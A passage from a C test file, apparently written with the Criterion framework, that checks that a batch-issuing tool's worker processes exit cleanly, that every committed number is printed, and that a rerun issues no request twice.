             "    [ -n \"$s\" ] && [ \"$s\" != Z ] && alive=\"$alive $k\"; done; "
             "  [ -z \"$alive\" ] && break; sleep 0.01; i=$((i+1)); done; "
             "echo \"workers $(echo $kids | wc -w) alive:$alive\"; sleep 0.2; "
             "awk '{print $2}' printed | sort > p.txt; %s > r.txt; "
             "echo \"printed $(wc -l < p.txt) registered $(wc -l < r.txt)\"; cmp -s p.txt r.txt && echo same; true",
             dir, th_bin(), th_reg(), numbers);
    cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
    cr_assert(strstr(out, "workers 2 alive:\n"), "the workers died with the batch: %s", out);
    cr_assert(strstr(out, "same"), "every committed number was printed, at once: %s", out);
    free(out); free(err);
    /* the rest, once */
    char args[600];
    snprintf(args, sizeof args, "batch %s/in.jsonl --issue -j 2 -q", dir);
    cr_assert_eq(rq_in(dir, th_bin(), DAY0, args, &out, &err), 0, "%s", err);
    cr_assert(strstr(err, "already issued (not again), 0 failed"), "%s", err);
    free(out); free(err);
    cr_assert_eq(th_run(counts, &out, NULL), 0);
    cr_assert_str_eq(out, "120|120\n", "one quote per request");
    free(out);
    th_rmtree(dir);
    free(dir);
}
